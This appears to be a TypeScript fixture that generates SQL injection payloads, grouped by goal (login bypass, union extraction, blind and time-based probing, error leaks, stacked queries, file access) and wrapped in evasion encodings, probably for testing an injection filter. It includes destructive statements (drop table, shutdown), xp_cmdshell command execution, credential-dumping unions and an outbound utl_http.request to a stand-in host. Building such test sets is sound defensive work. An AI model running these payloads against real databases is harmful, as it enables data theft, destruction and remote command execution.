/** SQL injection attempts, by their goal. `$` is the quote to break out of, if any. */
const attempts: Readonly<Record<string, readonly string[]>> = {
  bypass: [
    '0$ or 5=5 -- ',
    '0$ or $k$=$k',
    '0$) or ($k$=$k',
    '0$ or not 5=6 -- ',
    '0$ || 5=5 -- ',
    '0$ or 5 between 4 and 6 -- ',
    '0$ or name like $%',
    '0$ or 5 -- ',
    '0$ or true -- ',
    '0$ and 5=6 -- ',
    '0$ or exists(select 5) -- ',
    'clerk$ -- ',
    'clerk$/*',
    'clerk$) -- ',
  ],
  union: [
    '0$ union select 5, 6, 7 -- ',
    '0$ union all select null, null -- ',
    '0$ union select login, secret from staff -- ',
    '0$) union select table_name from information_schema.tables -- ',
    '0$ union select group_concat(name) from sqlite_master -- ',
    '0$ union (select @@version) -- ',
    '0$ except select 5 -- ',
  ],
  blind: [
    '0$ and ascii(substring((select user()),1,1))>64 -- ',
    '0$ and (select count(*) from staff)>5 -- ',
    '0$ and length(database())=5 -- ',
    '0$ and substr(version(),1,1)=$9$ -- ',
    '0$ and case when 5=5 then 1 else 0 end=1 -- ',
    '0$ and 5=(select 5 from dual) -- ',
    '0$ having 5=5 -- ',
    '0$ group by id having 5=5 -- ',
    '0$ order by 12 -- ',
  ],
  time: [
    '0$ or sleep(9) -- ',
    '0$ and if(5=5,sleep(9),0) -- ',
    '0$; select pg_sleep(9) -- ',
    '0$; waitfor delay $0:0:9$ -- ',
    '0$ or benchmark(9000000,md5(5)) -- ',
    '0$ and 5=dbms_pipe.receive_message($k$,9) -- ',
    '0$ and (select 5 from (select sleep(9))k) -- ',
  ],
  error: [
    '0$ and extractvalue(5,concat(0x7e,version())) -- ',
    '0$ and updatexml(5,concat(0x7e,user()),5) -- ',
    '0$ and 5=cast((select version()) as int) -- ',
    '0$ and 5=convert(int,(select @@version)) -- ',
    '0$ and 5=utl_inaddr.get_host_address((select user from dual)) -- ',
  ],
  stacked: [
    '0$; drop table orders -- ',
    '0$; delete from orders -- ',
    '0$; insert into staff values (5) -- ',
    '0$; update staff set role=5 -- ',
    '0$; truncate table orders -- ',
    '0$; exec master..xp_cmdshell $dir$ -- ',
    '0$; shutdown -- ',
    '0$; copy orders to program $x$ -- ',
    '0$; declare @k int -- ',
  ],
  files: [
    '0$ union select load_file($/k$) -- ',
    '0$ into outfile $/k',
    '0$ || utl_http.request($http://k.example$) || $',
  ],
};

const percentEncode = (text: string) =>
  text.replaceAll(
    /\W/g,
    (character) => `%${character.charCodeAt(0).toString(16).padStart(2, '0')}`,
  );
const swapCase = (text: string) =>
  text.replaceAll(/(.)(.?)/gs, (_, a: string, b: string) => a.toUpperCase() + b.toLowerCase());

/** Ways to disguise an attempt. */
export const disguises: Readonly<Record<string, (text: string) => string>> = {
  plain: (text) => text,
  'mixed case': swapCase,
  'comments for spaces': (text) => text.trimEnd().replaceAll(' ', '/**/'),
  'tabs and lines': (text) => text.replaceAll(' ', '\n\t'),
  'percent-encoded': percentEncode,
  'percent-encoded twice': (text) => percentEncode(percentEncode(text)),
  'plus for spaces': (text) => text.replaceAll(' ', '+'),
  'HTML entities': (text) =>
    text.replaceAll(/['"=<>()]/g, (character) => `&#${character.charCodeAt(0)};`),
  'unicode escapes': (text) =>
    text.replaceAll(/['"= ]/g, (character) => `\\u00${character.charCodeAt(0).toString(16)}`),
  'full-width marks': (text) =>
    text.replaceAll(/['"=()]/g, (character) =>
      String.fromCodePoint(character.charCodeAt(0) + 0xfee0),
    ),
  'typographic quotes': (text) => text.replaceAll("'", '\u2019'),
};

/** Lists every attempt in every context, disguised. */
export function attacks(disguise: (text: string) => string): { goal: string; text: string }[] {
  const contexts = [
    { left: "'", inner: "'" },
    { left: '"', inner: '"' },
    { left: '', inner: "'" },
  ];
  const list = [];
  for (const [goal, texts] of Object.entries(attempts))
    for (const { left, inner } of contexts)
      for (const text of texts) {
        // Without a quote to break out of, attempts that need one don't apply.
        if (left === '' && /^clerk|\$k\$=\$k|\$\)|\$%|\|\| \$$|\$\/k$/.test(text)) continue;
        const attack = text.replace('$', left).replaceAll('$', inner);
        list.push({ goal, text: disguise(attack) });
      }
  return list;
}
